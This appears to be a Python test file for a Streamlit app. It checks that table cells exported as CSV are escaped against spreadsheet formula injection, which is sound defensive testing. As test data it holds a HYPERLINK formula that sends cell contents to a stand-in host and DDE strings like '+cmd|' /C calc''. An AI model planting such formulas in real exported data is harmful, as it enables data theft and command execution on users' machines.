"""Every table's cells are inert: Streamlit's "Download as CSV" never hands Excel a formula.

Before, an officer could plant `=HYPERLINK(…)` or `+cmd|…` in a unit's contacts, and the CSV that
Streamlit's table toolbar offers carried it as is.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from pages import _ui
from tests.support.app import with_hostile_unit

ROOT = Path(__file__).resolve().parents[2]
PLANTED = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),  # a digit next: a number for Excel
        ("-cmd|x", "'-cmd|x"),
        ("+84 912 345 678", "+84 912 345 678"),
        ("-5", "-5"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        ("", ""),
        (12, 12),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(typed, shown):
    assert _ui.inert_cell(typed) == shown


def test_a_formula_planted_in_a_units_secretary_reaches_the_table_inert(open_app, app_runtime):
    at, _ = with_hostile_unit(open_app, app_runtime, "upper", "pages/don_vi.py", secretary=PLANTED)
    cells = [str(v) for frame in at.dataframe for v in frame.value.to_numpy().ravel()]
    assert f"'{PLANTED}" in cells
    assert PLANTED not in cells


def test_no_screen_draws_a_table_except_through_the_inert_helper():
    calls = [
        f"{path.name}:{n}"
        for path in sorted((ROOT / "pages").glob("*.py"))
        if path.name != "_ui.py"
        for n, line in enumerate(path.read_text("utf-8").splitlines(), 1)
        if re.search(r"\bst\.(dataframe|table|data_editor)\(", line)
    ]
    assert calls == []
